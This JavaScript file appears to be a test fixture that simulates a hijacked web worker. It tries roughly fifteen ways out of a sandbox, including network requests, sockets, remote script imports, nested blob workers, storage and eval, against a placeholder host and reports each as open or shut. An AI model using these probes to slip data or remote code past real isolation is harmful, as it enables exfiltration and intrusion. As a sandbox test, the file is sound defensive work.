// Text of a worker that has been taken over: it tries every exit, and reports what each attempt came to.
// The word SINK is replaced by the address of a host that counts arrivals, HOME by that of the page.
const attempts = {
  fetch: () => fetch('SINK/fetch', { mode: 'no-cors' }),
  fetchHome: () => fetch('HOME/fetch-home'),
  request: () =>
    new Promise((resolve, reject) => {
      const request = new XMLHttpRequest()
      request.open('GET', 'SINK/request')
      request.onload = resolve
      request.onerror = reject
      request.send()
    }),
  eventSource: () =>
    new Promise((resolve, reject) => {
      const source = new EventSource('SINK/event-source')
      source.onopen = resolve
      source.onerror = reject
    }),
  socket: () =>
    new Promise((resolve, reject) => {
      const socket = new WebSocket('SINK/socket'.replace('http', 'ws'))
      socket.onopen = resolve
      socket.onerror = reject
    }),
  transport: () => new WebTransport('SINK/transport'.replace('http:', 'https:')).ready,
  importOther: () => import('SINK/import.js'),
  importHome: () => import('HOME/import-home.js'),
  importScripts: () => importScripts('SINK/import-scripts.js'),
  importData: () => import('data:text/javascript,0'),
  workerOther: () => startWorker('SINK/worker.js'),
  workerNested: () =>
    startWorker(
      URL.createObjectURL(
        new Blob([`fetch('SINK/nested', { mode: 'no-cors' }).then(() => postMessage(0), () => { throw 0 })`]),
      ),
    ),
  database: () =>
    new Promise((resolve, reject) => {
      const opening = indexedDB.open('x')
      opening.onsuccess = resolve
      opening.onerror = reject
    }),
  caches: () => caches.open('x'),
  evaluation: () => new Function('return 1')(),
}

const startWorker = (address) =>
  new Promise((resolve, reject) => {
    const worker = new Worker(address)
    worker.onmessage = resolve
    worker.onerror = reject
    setTimeout(reject, 5000)
  })

const within = (promise) => Promise.race([promise, new Promise((_, reject) => setTimeout(reject, 5000))])

addEventListener('message', async ({ ports: [port] }) => {
  const tried = Object.entries(attempts).map(async ([name, attempt]) => [
    name,
    await within(Promise.resolve().then(attempt)).then(
      () => 'open',
      () => 'shut',
    ),
  ])
  const outcome = Object.fromEntries(await Promise.all(tried))
  port.postMessage({ kind: 'ready', evaluation: true, outcome })
})
